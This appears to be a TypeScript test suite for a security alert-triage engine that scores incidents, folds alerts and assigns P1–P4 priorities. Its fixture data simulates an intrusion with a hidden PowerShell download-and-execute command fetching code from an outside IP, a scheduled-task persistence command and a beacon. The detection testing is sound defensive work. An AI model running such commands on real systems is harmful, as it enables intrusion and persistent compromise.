import { emptyMeta, mergeIntoMeta } from '../../../lambdas/core/correlate/incident-meta';
import type { IncidentMeta } from '../../../lambdas/core/correlate/incident-meta';
import { buildSnapshot, enrichAlert } from '../../../lambdas/core/enrich';
import {
  KEY_CAP,
  RUBRIC,
  alertSignals,
  applyRubric,
  behaviourOfTechnique,
  emptyJudgeState,
  foldAlerts,
  judgeIncident,
} from '../../../lambdas/core/judge';
import { fitReasons } from '../../../lambdas/core/judge/score';
import type { Alert, Detection } from '../../../lambdas/core/model/alert';
import { DISPOSITION_FLAGS } from '../../../lambdas/core/model/alert';
import type { AssetContext, EnrichedAlert } from '../../../lambdas/core/model/enrichment';
import { lsassAccessAlert, makeAlert, runKeyAlert } from '../enrich/factories';

/**
 * The judge: per-alert signals, the incident state folded batch by batch, and the score and rubric over the whole
 * chain. The calibration set (calibration.test.ts) checks the outcomes; these check the mechanics.
 */

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const enrich = (a: Alert, assets: AssetContext[] = []): EnrichedAlert => enrichAlert(a, buildSnapshot(assets, [], []));

const sigma = (level: Detection['level'], tags: string[], title = `a ${level} rule`): Detection => ({
  id: `rule-${title}`,
  title,
  level,
  tags,
  author: 'tester',
});

/** Office → shell → hidden PowerShell download → task → beacon from the written binary, as separate alerts. */
function intrusion(): EnrichedAlert[] {
  const host = { name: 'FIN-WS-051' };
  const ps = { guid: '{aaaa0000-0000-0000-0000-000000000003}', pid: 300, image: PS };
  const implant = 'C:\\Users\\mlopez\\AppData\\Roaming\\Upd\\upd.exe';
  return [
    makeAlert({
      alertId: 'a1',
      host,
      eventTime: '2024-05-02T09:14:31.000Z',
      process: {
        ...ps,
        commandLine:
          'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://185.220.101.7/a\')"',
        parent: { pid: 200, image: 'C:\\Windows\\System32\\cmd.exe' },
        grandparent: { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' },
      },
    }),
    makeAlert({
      alertId: 'a2',
      host,
      eventTime: '2024-05-02T09:14:35.000Z',
      eventType: 'file_create',
      eventCode: 11,
      process: ps,
      file: { path: implant },
    }),
    makeAlert({
      alertId: 'a3',
      host,
      eventTime: '2024-05-02T09:14:37.000Z',
      process: {
        guid: '{aaaa0000-0000-0000-0000-000000000004}',
        pid: 400,
        image: 'C:\\Windows\\System32\\schtasks.exe',
        commandLine: `schtasks /create /tn Upd /tr "${implant}" /sc onlogon /f`,
        parent: ps,
      },
    }),
    makeAlert({
      alertId: 'a4',
      host,
      eventTime: '2024-05-02T09:15:41.000Z',
      eventType: 'network_connect',
      eventCode: 3,
      process: { guid: '{aaaa0000-0000-0000-0000-000000000005}', pid: 500, image: implant },
      network: { direction: 'outbound', dstIp: '45.142.212.61', dstPort: 443 },
    }),
  ].map((a) => enrich(a));
}

describe('alertSignals', () => {
  it('reads LSASS access as credential theft, naming the heuristic and the technique', () => {
    const s = alertSignals(enrich(lsassAccessAlert('0x1010')));
    expect(s.behaviours.get('credential-theft')).toEqual({
      label: 'heuristic "LSASS memory access"',
      technique: 'T1003.001',
    });
  });

  it('takes behaviours from Sigma rules of medium level and above, and credential theft only from high ones', () => {
    const tagged = (level: Detection['level']) =>
      alertSignals(enrich(makeAlert({ detections: [sigma(level, ['attack.t1003.001', 'attack.t1059.001'])] })));
    expect([...tagged('low').behaviours.keys()]).toEqual([]);
    expect([...tagged('medium').behaviours.keys()]).toEqual(['execution']);
    expect([...tagged('high').behaviours.keys()].sort()).toEqual(['credential-theft', 'execution']);
  });

  it('reads a rule about a dumping tool landing on disk as a download, not as theft', () => {
    const drop = makeAlert({
      eventType: 'file_create',
      process: { image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe' },
      file: { path: 'C:\\Users\\admin\\Downloads\\procdump64.exe' },
      detections: [sigma('high', ['attack.t1003.001'])],
    });
    const s = alertSignals(enrich(drop));
    expect(s.behaviours.has('credential-theft')).toBe(false);
    expect(s.behaviours.get('download')?.technique).toBe('T1003.001');
  });

  it('counts a vendor technique only when the vendor rated the detection medium or above', () => {
    const detection = (score: number) =>
      alertSignals(
        enrich(
          makeAlert({
            source: { product: 'crowdstrike', format: 'crowdstrike-alerts-v2' },
            eventType: 'detection',
            severity: { vendor: String(score), score },
            techniques: ['T1003'],
            rule: { name: 'CredentialDumping' },
          }),
        ),
      );
    expect(detection(70).behaviours.get('credential-theft')?.technique).toBe('T1003');
    expect(detection(30).behaviours.has('credential-theft')).toBe(false);
  });

  it('knows noise and posture: a vendor-benign verdict, unwanted software, a compliance check', () => {
    const vendor = (overrides: Partial<Alert>) =>
      alertSignals(
        enrich(
          makeAlert({
            source: { product: 'defender', format: 'defender-mde-alert' },
            eventType: 'detection',
            severity: { vendor: 'Medium', score: 50 },
            ...overrides,
          }),
        ),
      );
    expect(vendor({ flags: [DISPOSITION_FLAGS.benign], rule: { name: 'Trojan found' } }).noise).toBe(
      'closed as benign by the vendor',
    );
    expect(vendor({ rule: { name: 'Adware/PUP detected' } }).noise).toBe('potentially unwanted software');
    expect(vendor({ flags: [DISPOSITION_FLAGS.compliance] }).compliance).toBe(true);
    expect(vendor({ rule: { name: "'Mountsi' malware was detected" } }).confirmedMalware).toBe(
      "'Mountsi' malware was detected",
    );
  });

  it('taints the process that did harm and the one that started it, unless that is the desktop', () => {
    const [, , task] = intrusion();
    const s = alertSignals(task);
    expect(s.behaviours.get('persistence')?.technique).toBe('T1053.005');
    expect(s.tainted).toHaveLength(2);
    const fromExplorer = alertSignals(
      enrich(
        makeAlert({
          process: {
            guid: '{bbbb0000-0000-0000-0000-000000000001}',
            image: 'C:\\Windows\\System32\\schtasks.exe',
            commandLine: 'schtasks /create /tn x /tr c:\\users\\public\\x.exe',
            parent: { guid: '{bbbb0000-0000-0000-0000-000000000002}', image: 'C:\\Windows\\explorer.exe' },
          },
        }),
      ),
    );
    expect(fromExplorer.tainted).toHaveLength(1);
  });
});

describe('foldAlerts and judgeIncident', () => {
  it('scores the whole chain: the Office intrusion with live C2 from the binary it wrote is P1', () => {
    const j = judgeIncident(foldAlerts(emptyJudgeState(), intrusion()));
    expect(j.basis).toMatchObject({ rule: 'c2', level: 'P1', title: 'active command-and-control' });
    expect(j.score).toBeGreaterThanOrEqual(90);
    expect(j.reasons).toEqual(
      expect.arrayContaining([
        'combination: persistence plus outbound traffic from a binary the incident wrote or a process of the attack chain (+20)',
        'combination: Office or browser → shell → download (+15)',
      ]),
    );
    expect(j.reasons[j.reasons.length - 1]).toMatch(/^priority P1 by the rubric: active command-and-control/);
  });

  it('gives every contribution its own line, chain behaviours included', () => {
    const j = judgeIncident(foldAlerts(emptyJudgeState(), intrusion()), 40);
    const chain = j.reasons.filter((r) => r.startsWith('chain: '));
    expect(chain.length).toBeGreaterThan(0);
    // Each line ends with what it contributed: the base, `(+n)`, `(−n)`.
    for (const line of j.reasons.slice(0, -1)) expect(line).toMatch(/\([^()]*\d+\)$/);
  });

  it('gives the same state and judgement whichever order the alerts arrive in, batch by batch', () => {
    const alerts = intrusion();
    const forward = alerts.reduce((s, a) => foldAlerts(s, [a]), emptyJudgeState());
    const backward = [...alerts].reverse().reduce((s, a) => foldAlerts(s, [a]), emptyJudgeState());
    const together = foldAlerts(emptyJudgeState(), alerts);
    expect(backward).toEqual(forward);
    expect(together).toEqual(forward);
    expect(judgeIncident(backward)).toEqual(judgeIncident(forward));
  });

  it('gives a retried batch the same result from the same previous state, and does not change that state', () => {
    const [first, ...rest] = intrusion();
    const prev = foldAlerts(emptyJudgeState(), [first]);
    const copy = JSON.parse(JSON.stringify(prev)) as unknown;
    expect(foldAlerts(prev, rest)).toEqual(foldAlerts(prev, rest));
    expect(prev).toEqual(copy);
  });

  it('caps the binaries, connections and processes it keeps', () => {
    const many = Array.from({ length: 3 * KEY_CAP }, (_, i) =>
      enrich(
        makeAlert({
          alertId: `w${i}`,
          eventType: 'file_create',
          process: { image: PS },
          file: { path: `C:\\Users\\Public\\drop${i}.exe` },
        }),
      ),
    );
    const state = foldAlerts(emptyJudgeState(), many);
    expect(state.written).toHaveLength(KEY_CAP);
    expect(JSON.stringify(state).length).toBeLessThan(10_000);
  });

  it('puts LSASS access on a critical server at P1 with the server combination, and at P1 without any context', () => {
    const server: AssetContext = { host: 'FIN-WS-034', criticality: 'critical', os: 'Windows Server 2019' };
    const withContext = judgeIncident(foldAlerts(emptyJudgeState(), [enrich(lsassAccessAlert('0x1010'), [server])]));
    const without = judgeIncident(foldAlerts(emptyJudgeState(), [enrich(lsassAccessAlert('0x1010'))]));
    expect(withContext.basis.rule).toBe('credential-theft');
    expect(withContext.reasons).toContain('combination: credential theft on a server (Windows Server 2019) (+10)');
    expect(without.basis).toMatchObject({ rule: 'credential-theft', level: 'P1' });
    expect(without.score).toBe(90);
  });

  it('never puts a compliance finding above P3, however the scanner rates it', () => {
    const finding = (score: number, vendor: string) =>
      judgeIncident(
        foldAlerts(emptyJudgeState(), [
          enrich(
            makeAlert({
              source: { product: 'securityhub', format: 'securityhub-asff' },
              eventType: 'finding',
              severity: { vendor, score },
              flags: [DISPOSITION_FLAGS.compliance],
              rule: { name: 'S3.8 S3 buckets should block public access' },
            }),
          ),
        ]),
      );
    expect(finding(95, 'CRITICAL')).toMatchObject({ score: 69, basis: { rule: 'compliance-critical', level: 'P3' } });
    expect(finding(75, 'HIGH')).toMatchObject({ score: 39, basis: { rule: 'compliance', level: 'P4' } });
  });

  it('takes urgency away when the EDR blocked everything it saw, and adds privilege only to something suspicious', () => {
    const blocked = judgeIncident(
      foldAlerts(emptyJudgeState(), [
        enrich(
          makeAlert({
            source: { product: 'crowdstrike', format: 'crowdstrike-alerts-v2' },
            eventType: 'detection',
            severity: { vendor: 'High', score: 70 },
            rule: { name: 'Known Malware' },
            flags: [DISPOSITION_FLAGS.blocked],
          }),
        ),
      ]),
    );
    expect(blocked.basis.rule).toBe('blocked');
    expect(blocked.reasons).toContain('vendor disposition: blocked (Known Malware), nothing seen past it (−15)');
    const quiet = judgeIncident(
      foldAlerts(emptyJudgeState(), [enrich(makeAlert({ process: { image: PS, integrityLevel: 'High' } }))]),
    );
    expect(quiet.reasons.some((r) => r.startsWith('account privilege'))).toBe(false);
    expect(quiet.basis.level).toBe('P4');
  });
});

describe('the rubric table', () => {
  it('ends with a row that always matches, and every row has a SOC-worded title', () => {
    expect(
      RUBRIC[RUBRIC.length - 1].when({ behaviours: new Set(), facts: new Set(), combinations: new Set(), score: 0 }),
    ).toBe(true);
    for (const row of RUBRIC) expect(row.title).toMatch(/^[a-z]/);
  });

  it('caps an at-most row by the score: a blocked threat with a low score is P4, not P3', () => {
    const v = { behaviours: new Set<never>(), facts: new Set(['blocked' as const]), combinations: new Set<never>() };
    expect(applyRubric({ ...v, score: 30 })).toMatchObject({ level: 'P4', row: { id: 'blocked' } });
    expect(applyRubric({ ...v, score: 55 })).toMatchObject({ level: 'P3', row: { id: 'blocked' } });
  });

  it('reads techniques as behaviours by id first, then by tactic', () => {
    expect(behaviourOfTechnique('T1003.001')).toBe('credential-theft');
    expect(behaviourOfTechnique('T1070.001')).toBe('log-clearing');
    expect(behaviourOfTechnique('T1547.001')).toBe('persistence');
    expect(behaviourOfTechnique('T1197')).toBe('download');
    expect(behaviourOfTechnique('T9999')).toBeUndefined();
  });
});

describe('fitReasons', () => {
  it('keeps the rubric line last and the strongest alert’s first lines when the reasons do not fit', () => {
    const best = ['vendor severity High (75)', 'Sigma rule (+5)', 'heuristic a (+3)', 'heuristic b (+2)'];
    const incident = ['chain: x (+6)', 'chain: y (+6)', 'combination: z (+10)', 'priority P1 by the rubric: r'];
    const fitted = fitReasons(best, incident, 6);
    expect(fitted).toHaveLength(6);
    expect(fitted[0]).toBe(best[0]);
    expect(fitted[fitted.length - 1]).toBe('priority P1 by the rubric: r');
    expect(fitReasons(best, incident, 20)).toEqual([...best, ...incident]);
  });
});

describe('mergeIntoMeta', () => {
  const meta = (): IncidentMeta => emptyMeta('INC-1', 'storm:x', '2024-05-02T00:00:00.000Z', intrusion()[0]);
  const input = (alerts: EnrichedAlert[], id: string) => ({ alerts, duplicates: 0, suppressed: 0, messageIds: [id] });

  it('sets the incident severity, reasons and priority basis from the judge, batch by batch', () => {
    const [a, b, c, d] = intrusion();
    const once = mergeIntoMeta(meta(), input([a, b, c, d], 'm1'));
    const twice = mergeIntoMeta(mergeIntoMeta(meta(), input([a, b], 'm1')), input([c, d], 'm2'));
    expect(once.priorityBasis).toMatchObject({ rule: 'c2', level: 'P1', technique: 'T1071.001' });
    expect(twice.severity).toBe(once.severity);
    expect(twice.priorityBasis).toEqual(once.priorityBasis);
    expect(twice.judge).toEqual(once.judge);
  });

  it('judges an item stored before the judge existed from its stored severity onwards', () => {
    const legacy: IncidentMeta = { ...meta(), alertCount: 3, severity: 62, severityReasons: ['vendor severity 62'] };
    delete legacy.judge;
    const weaker = mergeIntoMeta(legacy, input([enrich(makeAlert({ alertId: 'q1' }))], 'm9'));
    expect(weaker.severityReasons[0]).toBe('vendor severity 62');
    expect(weaker).toMatchObject({ severity: 62, priorityBasis: { rule: 'suspicious', level: 'P3' } });
    const stronger = mergeIntoMeta(legacy, input([enrich(runKeyAlert({ alertId: 'r1' }))], 'm9'));
    expect(stronger.priorityBasis?.rule).toBe('persistence');
  });
});
